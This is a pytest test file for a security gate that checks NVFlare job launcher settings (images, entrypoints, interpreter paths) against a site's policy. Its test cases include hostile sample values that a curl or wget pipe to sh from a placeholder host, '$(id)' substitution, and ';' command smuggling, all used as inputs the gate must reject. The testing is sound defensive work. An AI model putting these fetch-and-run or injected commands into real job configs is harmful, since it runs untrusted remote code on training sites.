"""A job's launcher settings (meta.json launcher_spec, legacy resource_spec): in the digest, judged per key
against the site's policy (launcher_images) and rules/lists/launchers.yaml, judged at a site as NVFlare's
deployer hands them over (analyzer/engine/launchers.py, handler/site_gate.py)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from analyzer import api
from analyzer.engine import launchers
from analyzer.engine.collect import collect
from analyzer.engine.digest import manifest
from analyzer.model import Decision, GateError
from analyzer.policy import Limits, load_policy
from analyzer.trust import review, store

ROOT = Path(__file__).resolve().parents[1]
IMAGE = "nvflare-job:latest"
TRAIN = "import numpy as np\nWEIGHTS = np.zeros(3)\n"
CLIENT = {"format_version": 2, "executors": [], "components": []}


def make_job(folder: Path, **meta) -> Path:
    (folder / "app" / "custom").mkdir(parents=True)
    (folder / "app" / "config").mkdir()
    (folder / "app" / "custom" / "train.py").write_text(TRAIN)
    (folder / "app" / "config" / "config_fed_client.json").write_text(json.dumps(CLIENT))
    (folder / "meta.json").write_text(json.dumps({"name": "j", "deploy_map": {"app": ["@ALL"]}, **meta}))
    return folder


def site_policy(tmp_path: Path, images=(IMAGE,)) -> Path:
    path = tmp_path / "policy.yaml"
    path.write_text("runtime_guard: false\n" + f"launcher_images: {json.dumps(list(images))}\n")
    return path


def rules_of(report) -> set[str]:
    return {f.rule for f in report.findings if f.rule.startswith("config-attack.job-launcher")}


def docker(site: str = "site-1", **values) -> dict:
    return {"launcher_spec": {site: {"docker": values}}}


# -------------------------------------------------------------------- digest
def test_a_job_without_launcher_settings_keeps_its_digest(tmp_path: Path) -> None:
    # Computed by main before launcher settings entered the digest (c8ed8c3); portable resources are no launcher setting.
    job = make_job(tmp_path / "job", resource_spec={"site-1": {"num_of_gpus": 1}})
    (job / "app" / "config" / "config_fed_client.json").unlink()
    (job / "app" / "custom" / "train.py").write_text("print(1)\n")
    (job / "meta.json").write_text('{"name": "g", "deploy_map": {"app": ["@ALL"]}, "resource_spec": '
                                   '{"site-1": {"num_of_gpus": 1}}}\n')
    content = collect(job, Limits())
    assert content.launcher is None and b"launcher" not in manifest(content.files)
    assert content.digest == "sha256:25286376a97828933b3129bb110550360e38ee06cc3d40301f6a40a9bcc8b8a4"


def test_launcher_settings_are_a_member_of_the_digest(tmp_path: Path) -> None:
    plain = collect(make_job(tmp_path / "plain"), Limits())
    one = collect(make_job(tmp_path / "one", **docker(image=IMAGE)), Limits())
    other = collect(make_job(tmp_path / "other", **docker(image="nvflare-job:2")), Limits())
    shm = collect(make_job(tmp_path / "shm", **docker(image=IMAGE, shm_size="8g")), Limits())
    legacy = collect(make_job(tmp_path / "legacy", resource_spec={"site-1": {"docker": {"image": IMAGE}}}), Limits())
    assert [c.files for c in (one, other, shm, legacy)] == [plain.files] * 4  # same bytes of the apps
    assert len({c.digest for c in (plain, one, other, shm, legacy)}) == 5
    assert b'"launcher":{"launcher_spec":{"site-1":{"docker":{"image":"nvflare-job:latest"}}}}' in \
        manifest(one.files, True, one.launcher)


def test_the_launcher_member_does_not_depend_on_key_order(tmp_path: Path) -> None:
    a = make_job(tmp_path / "a", launcher_spec={"site-1": {"docker": {"image": IMAGE, "shm_size": "8g"}},
                                                 "default": {"k8s": {"python_path": "python3"}}})
    b = make_job(tmp_path / "b", launcher_spec={"default": {"k8s": {"python_path": "python3"}},
                                                 "site-1": {"docker": {"shm_size": "8g", "image": IMAGE}}})
    assert collect(a, Limits()).digest == collect(b, Limits()).digest


def test_choices_take_launcher_modes_only() -> None:
    meta = {"name": "x", "launcher_spec": {}, "resource_spec": {"site-1": {"num_of_gpus": 2, "process": {"x": 1},
                                                                           "slurm": {"nodes": 2}}}}
    assert launchers.choices(meta) == {"resource_spec": {"site-1": {"slurm": {"nodes": 2}}}}
    assert launchers.choices({"launcher_spec": None, "resource_spec": {"site-1": {"num_of_gpus": 1}}}) is None


# -------------------------------------------------------------------- judging
@pytest.mark.parametrize("spec, rule", [
    (docker(image="ghcr.io/x/runner:1"), "config-attack.job-launcher-image"),
    (docker(image=["nvflare-job:latest"]), "config-attack.job-launcher-image"),
    (docker(python_path="/opt/venv/bin/python"), "config-attack.job-launcher-command"),
    (docker(entrypoint=["torchrun", "--nproc_per_node=2"]), "config-attack.job-launcher-command"),
    ({"launcher_spec": {"site-1": {"slurm": {"nodes": 2, "additional_node_command": "python3 -m x"}}}},
     "config-attack.job-launcher-command"),
    ({"launcher_spec": {"site-1": "docker"}}, "config-attack.job-launcher-command"),
])
def test_what_the_gate_cannot_vouch_for_escalates_naming_key_and_value(tmp_path: Path, spec: dict, rule: str) -> None:
    report = api.scan(make_job(tmp_path / "job", **spec), load_policy(site_policy(tmp_path)))
    assert report.decision is Decision.ESCALATE and rules_of(report) == {rule}
    (finding,) = [f for f in report.findings if f.rule == rule]
    where, _, value = next(launchers.settings(launchers.choices(spec)))
    assert where in finding.message and repr(value)[:40] in finding.message


@pytest.mark.parametrize("spec", [
    docker(entrypoint=["/bin/sh", "-c", "curl -s https://e.example/x | sh"]),
    docker(entrypoint="python3 -m nvflare.private.fed.app.client.worker_process; id"),
    docker(python_path="python3 $(id)"),
    {"launcher_spec": {"default": {"slurm": {"additional_node_command": "bash -c 'wget https://e.example/p'"}}}},
    {"resource_spec": {"site-1": {"docker": {"entrypoint": ["python3", "-c", "import os; os.system('id')"]}}}},
])
def test_shell_syntax_or_fetch_and_run_in_a_launcher_command_rejects(tmp_path: Path, spec: dict) -> None:
    report = api.scan(make_job(tmp_path / "job", **spec), load_policy(site_policy(tmp_path)))
    assert report.decision is Decision.REJECT and "config-attack.job-launcher-shell" in rules_of(report)


def test_an_image_the_site_lists_and_a_listed_interpreter_are_accepted(tmp_path: Path) -> None:
    policy = load_policy(site_policy(tmp_path))
    job = make_job(tmp_path / "job", **docker(image=IMAGE, python_path="/usr/local/bin/python3", shm_size="8g"))
    assert api.scan(job, policy).decision is Decision.ACCEPT
    assert api.scan(job, load_policy()).decision is Decision.ESCALATE  # the built-in policy lists no image


def test_adding_launcher_settings_never_lowers_the_verdict(tmp_path: Path) -> None:
    policy = load_policy(site_policy(tmp_path))
    base = api.scan(make_job(tmp_path / "base"), policy)
    assert base.decision is Decision.ACCEPT
    worse = [docker(image="evil/img"), docker(image=IMAGE, entrypoint=["sh"]),
             {"launcher_spec": {"default": {"docker": {"image": "evil/img"}}, "site-1": {"docker": {"image": IMAGE}}}}]
    for i, spec in enumerate(worse):
        assert api.scan(make_job(tmp_path / f"j{i}", **spec), policy).decision is not Decision.ACCEPT


def test_a_site_judges_the_settings_its_own_launcher_resolves() -> None:
    """nvflare/utils/job_launcher_utils.py get_job_launcher_spec: default merged under the site's own, else
    the legacy resource_spec for the site."""
    doc = {"launcher_spec": {"default": {"docker": {"image": "a/default", "python_path": "python3"}},
                             "site-1": {"docker": {"image": IMAGE}}, "site-2": {"k8s": {"image": "b/other"}}},
           "resource_spec": {"site-3": {"slurm": {"image": "c/legacy"}}}}
    at = {site: [(w, v) for w, _, v in launchers.settings(doc, site)] for site in ("site-1", "site-2", "site-3")}
    assert at["site-1"] == [("launcher_spec[default][docker][python_path]", "python3"),
                            ("launcher_spec[site-1][docker][image]", IMAGE)]
    assert ("launcher_spec[default][docker][image]", "a/default") in at["site-2"]
    assert ("launcher_spec[site-2][k8s][image]", "b/other") in at["site-2"]
    assert ("resource_spec[site-3][slurm][image]", "c/legacy") in at["site-3"]  # no launcher_spec for slurm
    assert len(list(launchers.settings(doc))) == 5  # before submission: every site's


def test_the_site_resolution_matches_nvflare() -> None:
    from nvflare.utils.job_launcher_utils import get_job_launcher_spec

    meta = {"launcher_spec": {"default": {"docker": {"image": "a/d", "python_path": "python3", "shm_size": "1g"}},
                              "site-1": {"docker": {"image": "b/s"}, "k8s": {}}},
            "resource_spec": {"site-1": {"slurm": {"image": "c/l"}, "k8s": {"image": "d/l"}}}}
    doc = launchers.choices(meta)
    for site in ("site-1", "site-2"):
        ours = {(w.split("][")[1], w.rsplit("[", 1)[1].rstrip("]"), v) for w, _, v in launchers.settings(doc, site)}
        theirs = {(mode, k, v) for mode in ("docker", "k8s", "slurm")
                  for k, v in get_job_launcher_spec(meta, site, mode).items() if k in ("image", "python_path")}
        assert ours == theirs


@pytest.mark.parametrize("bad", ["NVFlare:latest", "x;rm", "a b", "ghcr.io/x/y:" + "t" * 200, ""])
def test_a_bad_image_reference_in_a_policy_is_a_clear_error(tmp_path: Path, bad: str) -> None:
    with pytest.raises(GateError, match=r"launcher_images.*not a Docker image reference"):
        load_policy(site_policy(tmp_path, [bad]))


# ------------------------------------------------------------ review copies
def test_a_review_copy_keeps_the_settings_and_review_show_prints_them(tmp_path: Path) -> None:
    content = collect(make_job(tmp_path / "job", **docker(image="evil/img:1", shm_size="8g")), Limits())
    report = api.analyze(content, load_policy())
    qid = review.enqueue(tmp_path / "q", content, report)
    copy = review.load(tmp_path / "q", qid).copy
    assert copy.launcher == content.launcher and copy.digest == content.digest
    r = subprocess.run([sys.executable, "-m", "analyzer.commands.cli", "review", "show", qid, "--queue",
                        str(tmp_path / "q")], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    assert "launcher settings of meta.json (in the digest):" in r.stdout and '"image": "evil/img:1"' in r.stdout
    assert "config-attack.job-launcher-image" in r.stdout
    meta = json.loads((tmp_path / "q" / qid / "meta.json").read_text())
    meta["launcher"]["launcher_spec"]["site-1"]["docker"]["image"] = "nvflare-job:latest"  # what a reviewer would sign
    (tmp_path / "q" / qid / "meta.json").write_text(json.dumps(meta))
    with pytest.raises(store.CopyDamaged):
        review.load(tmp_path / "q", qid)


def test_an_app_copy_scans_back_to_its_digest_with_its_settings(tmp_path: Path) -> None:
    job = make_job(tmp_path / "job", **docker(image=IMAGE))
    meta = json.loads((job / "meta.json").read_text())
    content = collect(job / "app", Limits(), "app", meta, "site-1")
    assert content.digest == collect(job, Limits()).digest  # the site's digest is the job folder's
    copy = store.load(store.put(tmp_path / "store", content))
    target, app_name = copy.scan_target()
    assert collect(target, Limits(), app_name, copy.launcher).digest == content.digest
    assert collect(target, Limits(), app_name).digest != content.digest


# ------------------------------------------------------ at a site, real NVFlare
def _deploy(tmp_path: Path, job: Path, policy: Path, job_id: str = "job-1") -> tuple[str | None, dict]:
    """NVFlare's own AppDeployer.deploy (private/fed/utils/app_deployer.py) with jobgate as the site's
    app_validator, the app zipped as the server sends it (apis/impl/job_def_manager.py)."""
    from nvflare.apis.fl_context import FLContext
    from nvflare.apis.workspace import Workspace
    from nvflare.fuel.utils.zip_utils import zip_directory_to_bytes
    from nvflare.private.fed.utils.app_authz import AppAuthzService
    from nvflare.private.fed.utils.app_deployer import AppDeployer

    from conftest import site_workspace
    from handler.validator import JobGateValidator

    ws = site_workspace(tmp_path / "ws", None)
    validator = JobGateValidator(policy=str(policy), review_queue=str(tmp_path / "q"),
                                 audit_log=str(tmp_path / "audit.jsonl"))
    AppAuthzService.initialize(validator)
    try:
        meta = dict(json.loads((job / "meta.json").read_text()), job_id=job_id)  # the server adds its own keys
        err = AppDeployer().deploy(Workspace(str(ws), "site-1"), job_id, meta, "app",
                                   zip_directory_to_bytes(str(job / "app"), ""), FLContext())
    finally:
        AppAuthzService.initialize(None)
        validator.gate._server.close()
    lines = (tmp_path / "audit.jsonl").read_text().splitlines()
    return err, json.loads(lines[-1])


def test_nvflare_deploy_holds_an_image_the_site_does_not_list(tmp_path: Path) -> None:
    job = make_job(tmp_path / "job", **docker(image="ghcr.io/x/runner:1"))
    err, audit = _deploy(tmp_path, job, site_policy(tmp_path))
    assert err and "escalated" in err and "config-attack.job-launcher-image" in err
    assert audit["decision"] == "escalate" and audit["digest"] == collect(job, Limits()).digest
    assert not (tmp_path / "ws" / "job-1").exists()  # NVFlare removed the refused deployment


def test_nvflare_deploy_accepts_an_image_the_site_lists_under_the_job_folders_digest(tmp_path: Path) -> None:
    job = make_job(tmp_path / "job", **docker(image=IMAGE, shm_size="8g"))
    err, audit = _deploy(tmp_path, job, site_policy(tmp_path))
    assert not err and audit["decision"] == "accept"
    assert audit["digest"] == api.scan(job, load_policy(site_policy(tmp_path))).digest
    deployed = json.loads((tmp_path / "ws" / "job-1" / "meta.json").read_text())
    assert deployed["launcher_spec"] == {"site-1": {"docker": {"image": IMAGE, "shm_size": "8g"}}}


def test_the_job_route_without_the_deployed_meta_is_blocked_as_site_setup(tmp_path: Path) -> None:
    from conftest import site_workspace
    from handler.site_gate import SiteGate

    app = site_workspace(tmp_path / "ws", None) / "job-1" / "app_site-1"
    (app / "custom").mkdir(parents=True)
    (app / "custom" / "train.py").write_text(TRAIN)
    (app.parent / "fl_app.txt").write_text("app")
    gate = SiteGate(str(site_policy(tmp_path)), None, str(tmp_path / "q"), str(tmp_path / "audit.jsonl"))
    gate.isolated = False
    verdict = gate.check_job_process(str(tmp_path / "ws"), "site-1", "job-1", {})
    assert not verdict.allow and "meta NVFlare launches it with was not found" in verdict.message
    assert json.loads((tmp_path / "audit.jsonl").read_text())["basis"] == "site-setup"
    (app.parent / "meta.json").write_text(json.dumps({"name": "j", **docker(image="evil/img")}))
    verdict = gate.check_job_process(str(tmp_path / "ws"), "site-1", "job-1", {})
    assert not verdict.allow and "config-attack.job-launcher-image" in verdict.message


def test_an_analysis_that_runs_out_of_time_still_reports_the_launcher_verdict(tmp_path: Path) -> None:
    """The site's parent judges the settings itself when its worker fails: a limit hides no reject."""
    from analyzer.engine.isolate import Failure

    class OutOfTime:
        def call(self, *args):
            return Failure("time-limit", "over 120 s")

    job = make_job(tmp_path / "job", **docker(entrypoint=["sh", "-c", "curl -s https://e.example/x | sh"]))
    report = api.analyze_isolated(collect(job, Limits()), load_policy(), OutOfTime())
    assert report.decision is Decision.REJECT and "config-attack.job-launcher-shell" in rules_of(report)


def test_recheck_judges_an_app_accepted_at_a_site_as_that_site(tmp_path: Path) -> None:
    """`jobgate allowlist recheck` scans the stored copy with its launcher settings (else its digest differs)
    as the site that accepted it resolves them: site-2's unlisted image is not site-1's concern."""
    from analyzer.trust import allowlist

    for name in ("gate",):
        r = subprocess.run([sys.executable, "-m", "analyzer.commands.cli", "keygen", "--out", str(tmp_path / name)],
                           cwd=ROOT, capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, r.stderr
    policy_file = site_policy(tmp_path)
    policy_file.write_text(policy_file.read_text() + "trust:\n  gate: gate.pub\n")
    policy = load_policy(policy_file)
    spec = {"launcher_spec": {"site-1": {"docker": {"image": IMAGE}}, "site-2": {"docker": {"image": "evil/img"}}}}
    job = make_job(tmp_path / "job", **spec)
    allow = tmp_path / "allowlist.jsonl"
    content, report = api.gate(job / "app", policy, allowlist=allow, gate_key=tmp_path / "gate.key", app_name="app",
                               job_meta=spec, site="site-1")
    assert report.decision is Decision.ACCEPT and allowlist.check(allow, content.digest, policy).covered
    assert api.scan(job, policy).decision is Decision.ESCALATE  # before submission: site-2's image counts
    r = subprocess.run([sys.executable, "-m", "analyzer.commands.cli", "allowlist", "recheck", str(allow),
                        "--policy", str(policy_file), "--key", str(tmp_path / "gate.key")],
                       cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "kept" in r.stdout and "0 revoked, 0 could not be rechecked" in r.stdout


@pytest.mark.parametrize("doc", [{"launcher_spec": "docker"}, {"launcher_spec": ["x"]},
                                 {"launcher_spec": {"site-1": "docker"}}, {"launcher_spec": {"default": {"k8s": 3}}}])
def test_a_launcher_spec_nvflare_cannot_read_is_shown_once_and_escalates(doc: dict) -> None:
    for site in (None, "site-1"):
        found = launchers.judge(doc, load_policy(), site)
        assert [f.rule for f in found] == ["config-attack.job-launcher-command"]
        assert "not a setting NVFlare reads" in found[0].message
